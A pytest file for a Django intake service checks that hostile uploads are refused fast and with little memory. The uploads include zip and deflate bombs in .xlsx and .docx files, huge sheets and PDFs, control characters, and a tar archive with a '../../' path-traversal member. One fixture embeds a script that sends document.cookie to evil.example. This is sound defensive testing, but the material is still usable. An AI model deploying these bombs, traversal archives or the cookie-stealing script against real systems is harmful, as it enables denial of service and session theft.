"""Files from outside cannot take the service down: each hostile file is refused quickly, in little
memory, with a Chinese message that says why, and nothing is written.

The files are built here, in memory where they can be: a 1,000,000-row sheet, a sheet and a .docx
that inflate to a gigabyte, a 200 MB PDF (a sparse file), a PDF of 10,000 pages, a saved page with
100 MB of text. Time and peak memory (tracemalloc) are measured around the path a person takes
(the admin's upload, the management commands): reading any of these whole would take minutes and
gigabytes. Run on PostgreSQL by `make test` and on SQLite by `make test-sqlite`.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
import sqlite3
import tarfile
import time
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.core.management import CommandError, call_command
from django.test import RequestFactory
from django.urls import reverse
from django.utils.datastructures import MultiValueDict
from django_celery_beat.models import PeriodicTask

from backups import services as backups
from backups.databases import BackupError
from intake import uploads
from intake.tasks import remove_expired_uploads_task
from letters.models import ImportedDocument
from proposals.models import Member, Proposal
from replies.models import Reply
from tests.intake.sheets import HEADER, csv_bytes, proposal_row, xlsx

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


@pytest.fixture(autouse=True)
def media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@contextlib.contextmanager
def bounded(seconds: float, megabytes: int):
    """Fails unless the block ends within `seconds` and its Python allocations peak under `megabytes`."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        yield
    finally:
        elapsed = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    print(f"{elapsed:.2f} s, peak {peak / MB:.1f} MB")
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert peak < megabytes * MB, f"peak {peak / MB:.0f} MB"


def nothing_written():
    return not Proposal.objects.exists() and not Member.objects.exists()


# --- building hostile files ---------------------------------------------------------------------


def xlsx_with_sheet(write_sheet, *, level: int = 1) -> bytes:
    """A real workbook (openpyxl's) whose first sheet's XML is replaced by what write_sheet writes."""
    base = zipfile.ZipFile(io.BytesIO(xlsx([HEADER])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for info in base.infolist():
            if info.filename != SHEET:
                target.writestr(info.filename, base.read(info.filename))
        with target.open(SHEET, "w") as sheet:
            write_sheet(sheet)
    return out.getvalue()


def million_rows(sheet) -> None:
    header = "".join(f'<c t="inlineStr"><is><t>{h}</t></is></c>' for h in HEADER)
    sheet.write(f'<worksheet xmlns="{SHEET_NS}"><sheetData><row>{header}</row>'.encode())
    for start in range(1, 1_000_001, 50_000):
        sheet.write("".join(f"<row><c><v>{i}</v></c></row>" for i in range(start, start + 50_000)).encode())
    sheet.write(b"</sheetData></worksheet>")


def deflate_bomb(inflated_mb: int) -> tuple[bytes, int, int]:
    """Raw deflate data of `inflated_mb` MiB of spaces, about 1 KB per MiB: one compressed block
    ending in a full flush decodes the same wherever it stands, so it is repeated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * MB
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(inflated_mb):
        crc = zlib.crc32(chunk, crc)
    return block * inflated_mb + compressor.flush(), crc, inflated_mb * MB


def zip_with_bomb(base: bytes, member: str, inflated_mb: int, *, declared: int | None = None) -> bytes:
    """`base` with `member` replaced by a deflate bomb; `declared` makes its directory lie."""
    raw, crc, size = deflate_bomb(inflated_mb)
    source = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info.filename, source.read(info.filename))
        info = zipfile.ZipInfo(member, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type, info.CRC = zipfile.ZIP_DEFLATED, crc
        info.file_size, info.compress_size = declared or size, len(raw)
        info.header_offset = out.tell()
        out.write(info.FileHeader())
        out.write(raw)
        target.filelist.append(info)
        target.NameToInfo[member] = info
        target.start_dir = out.tell()
    return out.getvalue()


def pdf_of_pages(count: int) -> bytes:
    """A well-formed PDF with `count` empty pages."""
    objects = ["<< /Type /Catalog /Pages 2 0 R >>",
               f"<< /Type /Pages /Count {count} /Kids [{' '.join(f'{3 + i} 0 R' for i in range(count))}] >>"]
    objects += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode())
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    out.write("".join(f"{offset:010d} 00000 n \n" for offset in offsets).encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


@pytest.fixture(scope="module")
def million_row_xlsx() -> bytes:
    return xlsx_with_sheet(million_rows)


# --- spreadsheets through the admin's intake upload ------------------------------------------------


def upload(client, meeting, data, name):
    return client.post(reverse("admin:intake_import", args=[meeting.pk, "proposals"]),
                       {"file": SimpleUploadedFile(name, data)})


def test_a_million_row_sheet_is_refused_as_soon_as_it_passes_the_row_limit(client, clerk, meeting, million_row_xlsx,
                                                                            settings):
    client.force_login(clerk)
    with bounded(seconds=15, megabytes=100):
        page = upload(client, meeting, million_row_xlsx, "提案.xlsx").content.decode()
    assert "文件超过 10100 行" in page and "最多约 10000 件" in page
    assert nothing_written()
    assert not (Path(settings.MEDIA_ROOT) / "intake").exists()  # nothing kept for a confirm


def test_import_proposals_command_refuses_a_million_row_sheet(tmp_path, clerk, meeting, million_row_xlsx):
    path = tmp_path / "提案.xlsx"
    path.write_bytes(million_row_xlsx)
    with bounded(seconds=15, megabytes=100), pytest.raises(CommandError, match="文件超过 10100 行"):
        call_command("import_proposals", str(path), meeting=meeting.pk, user=clerk.username)
    assert nothing_written()


def test_a_sheet_of_ten_thousand_proposals_is_still_read():
    from intake.spreadsheet import read_rows

    rows = [HEADER] + [proposal_row(str(i), f"关于{i}的提案", "张一") for i in range(1, 10_001)]
    assert len(read_rows("提案.csv", csv_bytes(rows, "utf-8"))) == 10_001


def test_a_zip_bomb_sheet_is_refused_before_it_is_parsed(client, clerk, meeting):
    bomb = zip_with_bomb(xlsx([HEADER]), SHEET, inflated_mb=1024)
    assert len(bomb) < 2 * MB
    client.force_login(clerk)
    with bounded(seconds=5, megabytes=60):
        page = upload(client, meeting, bomb, "提案.xlsx").content.decode()
    assert "解压后达 1024 MB，超过 100 MB 的上限（疑为压缩炸弹）" in page
    assert nothing_written()


def test_a_zip_whose_directory_understates_a_member_is_refused(client, clerk, meeting):
    """The directory says 1,000 bytes; the data inflates to 1 GiB: stopped at the declared size."""
    bomb = zip_with_bomb(xlsx([HEADER]), SHEET, inflated_mb=1024, declared=1000)
    client.force_login(clerk)
    with bounded(seconds=5, megabytes=60):
        page = upload(client, meeting, bomb, "提案.xlsx").content.decode()
    assert "无法读取该文件：已损坏或已加密" in page
    assert nothing_written()


def test_a_highly_compressed_sheet_is_refused_by_its_ratio(client, clerk, meeting):
    bomb = zip_with_bomb(xlsx([HEADER]), SHEET, inflated_mb=60)
    client.force_login(clerk)
    page = upload(client, meeting, bomb, "提案.xlsx").content.decode()
    assert f"{SHEET} 压缩比超过 100 倍（疑为压缩炸弹）" in page
    assert nothing_written()


def test_control_characters_are_refused_in_the_preview_naming_row_and_column(client, clerk, meeting):
    client.force_login(clerk)
    data = csv_bytes([HEADER, proposal_row("1", "关于甲\x00的提案", "张一"),
                      proposal_row("2", "关于乙的提案", "张\x07二"), proposal_row("3", "关于丙的提案", "张三")], "utf-8")
    preview = upload(client, meeting, data, "提案.csv")
    page = preview.content.decode()
    assert "<td>第2行</td><td>1</td><td>有错误</td>\n        <td>案由</td><td>含有不可见的控制字符（U+0000）" in page
    assert "<td>提案人</td><td>含有不可见的控制字符（U+0007）" in page

    token = preview.context["confirm_form"]["token"].value()
    refused = client.post(preview.request["PATH_INFO"], {"token": token}, follow=True)
    assert "有2行存在错误或冲突,未导入任何数据" in refused.content.decode()
    assert nothing_written()

    client.post(preview.request["PATH_INFO"], {"token": token, "valid_rows_only": "on"})
    assert list(Proposal.objects.values_list("title", flat=True)) == ["关于丙的提案"]
    assert list(Member.objects.values_list("name", flat=True)) == ["张三"]


def test_import_command_lists_a_control_character_by_row_and_column(tmp_path, clerk, meeting, capsys):
    path = tmp_path / "提案.csv"
    path.write_bytes(csv_bytes([HEADER, proposal_row("1", "关于甲的提案", "张一", body="正文\x1b[31m")], "utf-8"))
    with pytest.raises(SystemExit) as exit_status:
        call_command("import_proposals", str(path), meeting=meeting.pk, user=clerk.username)
    assert exit_status.value.code == 1
    table = re.sub(r"[\s│┃]", "", capsys.readouterr().out)  # the cells, wrapped or not
    assert "21内容含有不可见的控制字符（U+001B）" in table  # row 2, number 1, column 内容
    assert nothing_written()


def test_a_big5_csv_is_refused_naming_the_encodings_read(client, clerk, meeting):
    client.force_login(clerk)
    rows = [["編號", "案由", "提案人"], ["1", "關於加強城市綠化建設的建議", "張三"],
            ["2", "關於改善交通擁堵問題的提案", "王五"]]
    page = upload(client, meeting, csv_bytes(rows, "big5"), "提案.csv").content.decode()
    assert "该文件似乎是繁体中文 Big5 编码，本导入只读取 UTF-8、GB18030（含 GBK、GB2312）编码的 CSV" in page
    assert "未找到表头" not in page


def test_a_csv_in_no_known_encoding_says_which_encodings_are_read(client, clerk, meeting):
    client.force_login(clerk)
    page = upload(client, meeting, "编号,案由,提案人\n".encode("utf-8") + b"1,\xff\xfe\xff,x\n", "a.csv").content.decode()
    assert "无法识别该文件的编码，本导入只读取 UTF-8、GB18030" in page


def test_a_gb18030_csv_is_still_read(client, clerk, meeting):
    client.force_login(clerk)
    data = csv_bytes([HEADER, proposal_row("1", "关于加强城市绿化建设的建议", "张三")], "gb18030")
    assert "关于加强城市绿化建设的建议" in upload(client, meeting, data, "提案.csv").content.decode()


def test_a_bad_row_under_a_registered_number_is_an_error_not_a_conflict(client, clerk, meeting):
    """The good sheet, then the bad one: empty titles and missing proposers are errors first."""
    client.force_login(clerk)
    good = upload(client, meeting, xlsx([HEADER, proposal_row("1", "关于甲的提案", "张一"),
                                         proposal_row("2", "关于乙的提案", "张二"),
                                         proposal_row("3", "关于丙的提案", "张三")]), "提案.xlsx")
    client.post(good.request["PATH_INFO"], {"token": good.context["confirm_form"]["token"].value()})
    bad = upload(client, meeting, xlsx([HEADER, proposal_row("1", "", "张一"), proposal_row("2", "关于乙的提案", ""),
                                        proposal_row("3", "关于丙的提案", "张三")]), "提案.xlsx")
    preview = bad.context["preview"]
    assert preview.counts == {"new": 0, "unchanged": 1, "conflict": 0, "error": 2}
    assert "编号冲突 0" in bad.content.decode() and "有错误 2" in bad.content.decode()


# --- letters through the admin's import and the commands ------------------------------------------

LETTERS_URL = "admin:letters_importeddocument_import"


def letters_written() -> bool:
    return ImportedDocument.objects.exists() or Reply.objects.exists()


def upload_letter(client, name, data):
    return client.post(reverse(LETTERS_URL), {"step": "upload", "files": [SimpleUploadedFile(name, data)]})


def upload_letter_file(clerk, path: Path):
    """The admin's import view given the file as Django hands over a large upload (on disk), so
    the test itself holds none of it in memory."""
    request = RequestFactory().post(reverse(LETTERS_URL), {"step": "upload"})
    request.user = clerk
    request.POST  # noqa: B018 - parse the form fields before the file list is set
    with open(path, "rb") as handle:
        request._files = MultiValueDict({"files": [UploadedFile(handle, name=path.name, size=path.stat().st_size)]})
        model_admin = admin.site.get_model_admin(ImportedDocument)
        return model_admin.import_view(request).content.decode()


def sparse_file(path: Path, head: bytes, size: int) -> Path:
    with open(path, "wb") as handle:
        handle.write(head)
        handle.truncate(size)
    return path


@pytest.mark.parametrize(("name", "data", "message"), [
    ("答复.docx", b"PK\x03\x04" + os.urandom(2000), "无法读取该 Word 文件：已损坏，或不是有效的 Office 文件"),
    ("答复.pdf", b"%PDF-1.7\n" + os.urandom(2000), "PDF 文件已损坏,无法读取"),
    ("答复.docx", b"\xd0\xcf\x11\xe0" + os.urandom(2000), "这是旧版 Word(.doc)文件"),
])
def test_a_fake_letter_file_is_refused_by_name(client, clerk, name, data, message):
    client.force_login(clerk)
    page = upload_letter(client, name, data).content.decode()
    assert f"{name}:" in page and message in page
    assert not letters_written()


def test_a_200_mb_pdf_is_refused_without_being_read(clerk, tmp_path):
    path = sparse_file(tmp_path / "答复.pdf", b"%PDF-1.7\n", 200 * MB)
    with bounded(seconds=3, megabytes=60):
        page = upload_letter_file(clerk, path)
    assert "答复.pdf:文件超过 20 MB（Word、PDF文件的上限），未读取" in page
    assert not letters_written()


def test_parse_letter_refuses_a_200_mb_pdf_without_reading_it(tmp_path):
    path = sparse_file(tmp_path / "答复.pdf", b"%PDF-1.7\n", 200 * MB)
    err = io.StringIO()
    with bounded(seconds=3, megabytes=60), contextlib.suppress(CommandError, SystemExit):
        call_command("parse_letter", str(path), stderr=err)
    assert "文件超过 20 MB" in err.getvalue()


def test_a_pdf_of_ten_thousand_pages_is_refused(client, clerk):
    client.force_login(clerk)
    data = pdf_of_pages(10_000)
    with bounded(seconds=10, megabytes=200):
        page = upload_letter(client, "答复.pdf", data).content.decode()
    assert "PDF 共 10000 页，超过 200 页的上限，未读取" in page
    assert not letters_written()


def test_a_saved_page_with_scripts_and_100_mb_of_text_is_refused(clerk, tmp_path):
    path = tmp_path / "答复.html"
    with open(path, "wb") as handle:
        handle.write(b"<html><head><script>document.location='http://evil.example/'+document.cookie</script>"
                     b"</head><body><p>")
        for _ in range(100):
            handle.write("关于加强城市绿化建设的答复".encode() * (MB // 39))
    with bounded(seconds=3, megabytes=60):
        page = upload_letter_file(clerk, path)
    assert "答复.html:文件超过 5 MB（文本、网页文件的上限），未读取" in page
    assert "evil.example" not in page
    assert not letters_written()


def test_a_docx_zip_bomb_is_refused_before_python_docx_opens_it(client, clerk):
    import docx

    document = docx.Document()
    document.add_paragraph("关于加强城市绿化建设的答复")
    base = io.BytesIO()
    document.save(base)
    bomb = zip_with_bomb(base.getvalue(), "word/document.xml", inflated_mb=1024)
    client.force_login(clerk)
    with bounded(seconds=5, megabytes=60):
        page = upload_letter(client, "答复.docx", bomb).content.decode()
    assert "答复.docx:该 Word 文件解压后达 1024 MB，超过 50 MB 的上限（疑为压缩炸弹），未读取" in page
    assert not letters_written()


# --- uploads left unconfirmed, backups ------------------------------------------------------------


def test_unconfirmed_uploads_are_removed_once_their_token_expires(settings):
    uploads.keep_upload(name="a.xlsx", data=b"fresh", meeting_id=1, kind="proposals", options={})
    uploads.keep_upload(name="b.xlsx", data=b"stale", meeting_id=1, kind="proposals", options={})
    folder = Path(settings.MEDIA_ROOT) / uploads.UPLOAD_FOLDER
    stale_path = next(p for p in folder.iterdir() if p.read_bytes() == b"stale")
    day_ago = time.time() - 25 * 3600
    os.utime(stale_path, (day_ago, day_ago))
    assert remove_expired_uploads_task.apply().get() == 1
    assert [p.read_bytes() for p in folder.iterdir()] == [b"fresh"]
    assert PeriodicTask.objects.get(task="intake.remove_expired_uploads").enabled


def test_backup_archives_are_readable_by_their_owner_only(tmp_path, settings):
    (Path(settings.MEDIA_ROOT)).mkdir(parents=True, exist_ok=True)
    (Path(settings.MEDIA_ROOT) / "note.txt").write_text("x")
    folder = tmp_path / "backups"
    database = tmp_path / "office.sqlite3"
    with contextlib.closing(sqlite3.connect(database)) as db:  # a small database of its own
        db.execute("CREATE TABLE member (phone TEXT)")
    result = backups.take_backup(backup_dir=folder,
                                 database={"ENGINE": "django.db.backends.sqlite3", "NAME": str(database)})
    assert oct(result.archive.stat().st_mode & 0o777) == "0o600"
    assert oct(folder.stat().st_mode & 0o777) == "0o700"


def test_restoring_an_archive_with_a_path_outside_the_folder_is_refused_plainly(tmp_path):
    archive = tmp_path / "tracker-20261130-023000.tar"
    payload = b"evil"
    import hashlib

    manifest = {"format": backups.FORMAT, "taken_at": "2026-11-30T02:30:00+08:00",
                "database": {"engine": "sqlite", "file": "database.sqlite3", "sha256": "0", "bytes": 0},
                "migrations": {}, "tables": {},
                "media": {"../../escape.txt": {"sha256": hashlib.sha256(payload).hexdigest(), "bytes": 4}}}
    with tarfile.open(archive, "w") as tar:
        for name, data in (("media/../../escape.txt", payload),
                           (backups.MANIFEST, json.dumps(manifest).encode())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    target = {"ENGINE": "django.db.backends.sqlite3", "NAME": str(tmp_path / "restored.sqlite3")}
    with pytest.raises(BackupError, match=r"备份文件已损坏（media/\.\./\.\./escape\.txt 指向恢复目录之外）"):
        backups.restore_backup(archive=archive, database=target, media_root=tmp_path / "media")
    assert not (tmp_path.parent / "escape.txt").exists()
